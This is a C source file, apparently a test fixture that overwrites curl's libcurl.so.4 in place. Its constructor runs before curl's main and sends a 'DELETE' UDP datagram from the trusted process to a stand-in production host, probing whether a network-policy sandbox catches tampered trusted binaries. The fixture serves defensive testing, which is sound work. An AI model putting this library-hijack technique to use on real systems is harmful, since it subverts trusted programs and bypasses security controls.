/* Written over curl's libcurl.so.4 in place (same inode), like evil-libcurl.c, but what its
 * constructor sends from the trusted process is datagrams: one sendto on an unconnected UDP socket
 * and one send on a connected one, to the URL's host and port (the test's UDP production stand-in),
 * before curl's main runs. It prints what was sent ("sendto:ok connect:ok", or the errno; a refused
 * sendto is tried once more after 0.5 s: "retry:…") and exits.
 * URL: the last argument starting http://A.B.C.D:PORT/PATH. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include "url-target.h"

__attribute__((constructor)) static void take_over(void)
{
    struct sockaddr_in a;
    char host[64] = "", path[512];
    url_target(&a, host, path);
    char msg[600];
    int n = snprintf(msg, sizeof msg, "DELETE %s", path);
    int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (s < 0) _exit(2);
    if (sendto(s, msg, (size_t)n, 0, (struct sockaddr *)&a, sizeof a) == n) printf("sendto:ok ");
    else {
        /* Refused: root mode refuses a trusted program's first datagram to a destination while it
         * checks the program's code; once more after that check. */
        printf("sendto:%d ", errno);
        usleep(500000);
        if (sendto(s, msg, (size_t)n, 0, (struct sockaddr *)&a, sizeof a) == n) printf("retry:ok ");
        else printf("retry:%d ", errno);
    }
    int c = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (c < 0) _exit(2);
    if (connect(c, (struct sockaddr *)&a, sizeof a) != 0) printf("connect:%d", errno);
    else if (send(c, msg, (size_t)n, 0) == n) printf("connect:ok");
    else printf("connect:send%d", errno);
    fflush(stdout);
    _exit(0);
}
